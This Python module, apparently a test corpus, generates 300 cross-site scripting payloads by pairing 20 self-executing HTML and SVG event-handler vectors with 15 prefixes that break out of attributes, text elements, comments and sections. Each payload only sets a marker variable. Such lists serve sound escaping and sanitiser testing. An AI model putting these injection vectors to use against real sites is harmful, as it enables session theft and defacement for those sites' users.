"""Three hundred pieces of text that run where a page takes text for more: twenty ways, out of fifteen places."""

WAYS = (
    "<img src=x onerror=window.__x=1>",
    "<IMG SRC=x ONERROR=window.__x=1>",
    "<img/src=x/onerror=window.__x=1>",
    "<img srcset=x onerror=window.__x=1>",
    "<picture><source srcset=x><img onerror=window.__x=1></picture>",
    "<svg onload=window.__x=1></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.__x=1</script></svg>",
    "<math><mtext><img src=x onerror=window.__x=1></mtext></math>",
    "<details open ontoggle=window.__x=1>a</details>",
    "<video><source onerror=window.__x=1></video>",
    "<audio src=x onerror=window.__x=1></audio>",
    "<iframe onload=window.__x=1></iframe>",
    "<style onload=window.__x=1></style>",
    "<link rel=stylesheet href=x onerror=window.__x=1>",
    "<script>window.__x=1</script>",
    "<script src=x onerror=window.__x=1></script>",
    "<object data=x onerror=window.__x=1></object>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=window.__x=1>a</b>",
    "<marquee onstart=window.__x=1>a</marquee>",
)
"""Each runs by itself, without a click, in a page that writes it out as it is."""

OUT_OF = (
    "", '">', "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</select>", "</iframe>",
    "</svg></math>", "--!>", "]]>", "&quot;&gt;",
)  # fmt: skip
"""What ends the place that it may stand in: an attribute, an element of text, a comment, a section."""

MANY = [place + way for way in WAYS for place in OUT_OF]
